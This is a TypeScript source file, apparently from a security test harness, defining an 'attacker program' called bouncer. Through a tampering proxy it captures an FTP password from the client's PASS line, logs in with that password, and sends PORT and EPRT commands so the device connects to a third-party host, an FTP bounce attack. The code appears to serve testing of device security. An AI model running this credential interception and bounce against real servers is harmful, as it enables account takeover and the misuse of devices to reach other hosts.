import { silentLogger } from '@postern/core';
import { createTamperingProxy } from '../../../tampering/index.ts';
import type { Endpoint } from '../../../tcp/listener.ts';
import { FtpCaller } from '../ftp-caller.ts';
import type { AttackerProgram } from '../program.ts';

export interface BouncerKnowledge {
  readonly userName: string;
  /** Where the device is to connect to. */
  readonly bystander: Endpoint;
}

/** What the device answered. */
export interface BouncerReport {
  readonly login: string;
  readonly replies: readonly string[];
}

/** On the bulk path: logs in with the password that it has heard, and asks the device to connect to somebody else. */
export const bouncer: AttackerProgram = async ({ channel, clock, knows }) => {
  const { userName, bystander } = knows as BouncerKnowledge;
  const target = { host: '127.0.0.1', port: 0 };
  let done = false;
  const bounce = async (password: string): Promise<void> => {
    done = true;
    const caller = await FtpCaller.open(target);
    const login = await caller.login(userName, password);
    const { host, port } = bystander;
    const numbers = [...host.split('.'), port >> 8, port & 0xff].join(',');
    const replies = [
      await caller.say(`PORT ${numbers}`),
      await caller.say(`EPRT |1|${host}|${port}|`),
      await caller.say('RETR version-report'),
    ];
    caller.close();
    channel.say('report', { login, replies });
  };
  const proxy = await createTamperingProxy({
    clock,
    logger: silentLogger,
    target,
    onControlLine: async (from, line) => {
      if (from === 'client' && !done && line.startsWith('PASS ')) await bounce(line.slice('PASS '.length));
    },
  });
  channel.say('listening', { ftp: proxy.port });
  target.port = (await channel.hear<{ bulk: Endpoint }>('lead-to')).bulk.port;
};
